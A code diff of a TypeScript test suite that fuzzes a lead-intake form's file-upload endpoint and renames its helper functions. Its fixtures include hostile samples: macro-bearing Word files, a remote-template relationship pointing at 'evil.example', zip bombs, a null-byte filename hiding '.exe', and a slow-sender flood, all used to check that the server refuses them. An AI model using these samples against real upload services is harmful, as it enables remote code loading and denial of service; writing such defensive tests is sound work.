@@ -7,18 +7,18 @@ import { isHarmlessWordPackage } from "#leads/server/attachments/word-package.ts
 import { judgeAttachment } from "#leads/engine/attachment.ts";
 import { checkServiceRequest } from "#leads/service-request.contract.ts";
 import { goodRequest, multipart, plainFormAccept } from "../api/forms.ts";
-import { compoundFile, paddedTo, program, sampleFile, zip } from "../api/sample-files.ts";
+import { compoundFile, padTo, program, sampleFile, zip } from "../api/sample-files.ts";
 import { startApp } from "../api/start-app.ts";
-import { chanceFrom } from "./seeded-random.ts";
-import { times } from "./counts.ts";
+import { createRandom } from "./seeded-random.ts";
+import { pickCount } from "./counts.ts";
 import { mutate, type SentBody } from "./mutations.ts";
 
-const count = times(10_000, 800);
+const count = pickCount(10_000, 800);
 const path = "/api/service-requests";
 
 type Started = Awaited<ReturnType<typeof startApp>>;
 
-async function goodBodies(): Promise<readonly SentBody[]> {
+async function createValidBodies(): Promise<readonly SentBody[]> {
   const files = [
     undefined,
     ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({
@@ -27,15 +27,15 @@ async function goodBodies(): Promise<readonly SentBody[]> {
     })),
   ];
   const bodies = await Promise.all(
-    [...files, { name: "large.pdf", bytes: paddedTo(70_000, sampleFile("pdf")) }].map((file) =>
+    [...files, { name: "large.pdf", bytes: padTo(70_000, sampleFile("pdf")) }].map((file) =>
       multipart(goodRequest, file),
     ),
   );
-  return bodies.map(withSameBoundary);
+  return bodies.map(normalizeBoundary);
 }
 
 /** A boundary is made up anew for every body: with one of our own the same seed spoils the same bytes. */
-function withSameBoundary({ headers, payload }: Awaited<ReturnType<typeof multipart>>): SentBody {
+function normalizeBoundary({ headers, payload }: Awaited<ReturnType<typeof multipart>>): SentBody {
   const [, boundary = ""] = headers["content-type"].split("boundary=");
   const same = "-".repeat(4).padEnd(boundary.length, "b");
   return {
@@ -45,7 +45,11 @@ function withSameBoundary({ headers, payload }: Awaited<ReturnType<typeof multip
 }
 
 /** What is in the store or among the files and should not be. */
-async function wronglyKept({ stored, keptFiles, dataDir }: Started): Promise<readonly unknown[]> {
+async function findWronglyStored({
+  stored,
+  keptFiles: listStoredFiles,
+  dataDir,
+}: Started): Promise<readonly unknown[]> {
   const wrong: unknown[] = [];
   const held = new Set<string>();
   for (const lead of await stored()) {
@@ -69,18 +73,18 @@ async function wronglyKept({ stored, keptFiles, dataDir }: Started): Promise<rea
       (attachment.type !== "docx" || (await isHarmlessWordPackage(content)));
     if (!isRight || !isGood) wrong.push(attachment);
   }
-  for (const file of await keptFiles()) if (!held.has(file)) wrong.push(file);
+  for (const file of await listStoredFiles()) if (!held.has(file)) wrong.push(file);
   return wrong;
 }
 
 test(`Q-25 Q-30 ${count} spoilt forms: each is answered as what it is, nothing bad is kept and nothing is left behind`, async () => {
   const started = await startApp();
-  const bodies = await goodBodies();
-  const chance = chanceFrom(20_261_121);
+  const bodies = await createValidBodies();
+  const random = createRandom(20_261_121);
   const statuses = new Map<number, number>();
   for (let i = 0; i < count; i++) {
-    const { type, payload } = mutate(chance.oneOf(bodies), chance);
-    const accept = chance.below(4) === 0 ? plainFormAccept : "application/json";
+    const { type, payload } = mutate(random.pick(bodies), random);
+    const accept = random.below(4) === 0 ? plainFormAccept : "application/json";
     const { statusCode } = await started.app.inject({
       method: "POST",
       url: path,
@@ -94,7 +98,7 @@ test(`Q-25 Q-30 ${count} spoilt forms: each is answered as what it is, nothing b
     [...statuses.keys()].filter((status) => ![200, 201, 400, 413, 415].includes(status)),
   ).toEqual([]);
   expect(statuses.get(400)).toBeGreaterThan(count / 4);
-  expect(await wronglyKept(started)).toEqual([]);
+  expect(await findWronglyStored(started)).toEqual([]);
   for (const { type, payload } of bodies) {
     const { statusCode } = await started.app.inject({
       method: "POST",
@@ -106,28 +110,32 @@ test(`Q-25 Q-30 ${count} spoilt forms: each is answered as what it is, nothing b
   }
 });
 
-const word = (parts: Parameters<typeof zip>[0]) =>
+const findWord = (parts: Parameters<typeof zip>[0]) =>
   zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
 const template = `<Relationship Target="https://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External"/>`;
 
 /** Files that somebody may send and nobody should open. */
 const hostileFiles: readonly (readonly [what: string, name: string, bytes: Uint8Array])[] = [
-  ["a macro document", "brief.docx", word([{ name: "word/vbaProject.bin" }])],
-  ["a macro document under another case", "brief.docx", word([{ name: "word/VBAPROJECT.BIN" }])],
+  ["a macro document", "brief.docx", findWord([{ name: "word/vbaProject.bin" }])],
+  [
+    "a macro document under another case",
+    "brief.docx",
+    findWord([{ name: "word/VBAPROJECT.BIN" }]),
+  ],
   [
     "a document that fetches its template",
     "brief.docx",
-    word([{ name: "word/_rels/settings.xml.rels", text: template }]),
+    findWord([{ name: "word/_rels/settings.xml.rels", text: template }]),
   ],
   [
     "a bomb that says so",
     "brief.docx",
-    word([{ name: "word/a.bin", unpackedBytes: 4_000_000_000 }]),
+    findWord([{ name: "word/a.bin", unpackedBytes: 4_000_000_000 }]),
   ],
   [
     "a bomb that lies",
     "brief.docx",
-    word([{ name: "word/a.bin", text: "\0".repeat(20_000_000), unpackedBytes: 100 }]),
+    findWord([{ name: "word/a.bin", text: "\0".repeat(20_000_000), unpackedBytes: 100 }]),
   ],
   [
     "a macro document of the old kind",
@@ -161,7 +169,7 @@ const hostileFiles: readonly (readonly [what: string, name: string, bytes: Uint8
   ["a PDF under a document's name", "brief.docx", sampleFile("pdf")],
   ["an archive", "brief.zip", zip([{ name: "a" }])],
   ["nothing at all", "brief.pdf", new Uint8Array()],
-  ["one byte too many", "brief.pdf", paddedTo(5_242_881, sampleFile("pdf"))],
+  ["one byte too many", "brief.pdf", padTo(5_242_881, sampleFile("pdf"))],
   ["a name that ends in nothing", "brief.pdf\0.exe", sampleFile("pdf")],
 ];
 
@@ -189,11 +197,11 @@ test("Q-24 Q-25 Q-28 none of the hostile files is taken, each is refused in word
       name: `good.${type}`,
       bytes: sampleFile(type),
     })),
-    { name: "عرض السعر.PDF", bytes: paddedTo(5_242_880, sampleFile("pdf")) },
-    { name: "almost.pdf", bytes: paddedTo(5_242_879, sampleFile("pdf")) },
+    { name: "عرض السعر.PDF", bytes: padTo(5_242_880, sampleFile("pdf")) },
+    { name: "almost.pdf", bytes: padTo(5_242_879, sampleFile("pdf")) },
     {
       name: "template.docx",
-      bytes: word([
+      bytes: findWord([
         {
           name: "word/_rels/settings.xml.rels",
           text: template.replace("https://evil.example", "file:///C:/Users/Mona"),
@@ -210,33 +218,35 @@ test("Q-24 Q-25 Q-28 none of the hostile files is taken, each is refused in word
       (await started.app.inject({ method: "POST", url: path, headers, payload })).statusCode,
     ).toBe(201);
   }
-  expect(await wronglyKept(started)).toEqual([]);
+  expect(await findWronglyStored(started)).toEqual([]);
   expect(await started.keptFiles()).toHaveLength(goodFiles.length);
 });
 
 test("Q-30 spoilt forms over a real connection, cut into pieces, never leave a client without an end and the server serves on", async () => {
   const started = await startApp();
   const url = new URL(await started.app.listen({ port: 0, host: "127.0.0.1" }));
-  const bodies = await goodBodies();
-  const chance = chanceFrom(7);
-  const heard: string[] = [];
-  for (let i = 0; i < times(500, 60); i++) {
-    const { type, payload } = mutate(chance.oneOf(bodies), chance);
+  const bodies = await createValidBodies();
+  const random = createRandom(7);
+  const responses: string[] = [];
+  for (let i = 0; i < pickCount(500, 60); i++) {
+    const { type, payload } = mutate(random.pick(bodies), random);
     const pieces: Buffer[] = [];
     for (let at = 0; at < payload.length;)
-      pieces.push(payload.subarray(at, (at += 1 + chance.below(payload.length))));
+      pieces.push(payload.subarray(at, (at += 1 + random.below(payload.length))));
     const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: ${type.replace(/[^ -~]/g, "")}\r\nTransfer-Encoding: chunked\r\n\r\n`;
-    heard.push(
-      await talk(Number(url.port), [
+    responses.push(
+      await sendRaw(Number(url.port), [
         head,
         ...pieces.flatMap((piece) => [`${piece.length.toString(16)}\r\n`, piece, "\r\n"]),
         "0\r\n\r\n",
       ]),
     );
   }
-  expect(heard.filter((answer) => !/^HTTP\/1\.1 (201|200|400|413|415) /.test(answer))).toEqual([]);
+  expect(responses.filter((answer) => !/^HTTP\/1\.1 (201|200|400|413|415) /.test(answer))).toEqual(
+    [],
+  );
   expect((await fetch(new URL("/api/health", url))).status).toBe(200);
-  expect(await wronglyKept(started)).toEqual([]);
+  expect(await findWronglyStored(started)).toEqual([]);
 });
 
 test("Q-30 a large part that is no field, in one piece, does not keep the form waiting", async () => {
@@ -252,14 +262,14 @@ test("Q-30 a large part that is no field, in one piece, does not keep the form w
 });
 
 /** Says something to a port and listens until it is told no more. */
-function talk(port: number, said: readonly (string | Buffer)[]): Promise<string> {
+function sendRaw(port: number, pieces: readonly (string | Buffer)[]): Promise<string> {
   return new Promise((resolve, reject) => {
-    let heard = "";
+    let received = "";
     const socket = connect(port, "127.0.0.1", () => {
-      for (const piece of said) socket.write(piece);
+      for (const piece of pieces) socket.write(piece);
     });
-    socket.on("data", (chunk) => (heard += chunk.toString("latin1")));
-    socket.once("close", () => resolve(heard.split("\r\n", 1)[0]!)).once("error", reject);
+    socket.on("data", (chunk) => (received += chunk.toString("latin1")));
+    socket.once("close", () => resolve(received.split("\r\n", 1)[0]!)).once("error", reject);
   });
 }
 
@@ -267,7 +277,7 @@ test("Q-28 who sends on and on without saying how much is hung up on, and leaves
   const started = await startApp();
   const url = new URL(await started.app.listen({ port: 0, host: "127.0.0.1" }));
   const piece = Buffer.alloc(1024 * 1024, 0x20);
-  const sentPieces = await new Promise<number>((resolve) => {
+  const sendInPieces = await new Promise<number>((resolve) => {
     let sent = 0;
     const socket = connect(Number(url.port), "127.0.0.1");
     socket.on("error", () => undefined).once("close", () => resolve(sent));
@@ -291,8 +301,8 @@ test("Q-28 who sends on and on without saying how much is hung up on, and leaves
     };
     more();
   });
-  expect(sentPieces).toBeGreaterThan(60);
-  expect(sentPieces).toBeLessThan(100);
+  expect(sendInPieces).toBeGreaterThan(60);
+  expect(sendInPieces).toBeLessThan(100);
   await expect.poll(() => started.keptFiles()).toEqual([]);
   expect((await fetch(new URL("/api/health", url))).status).toBe(200);
 });
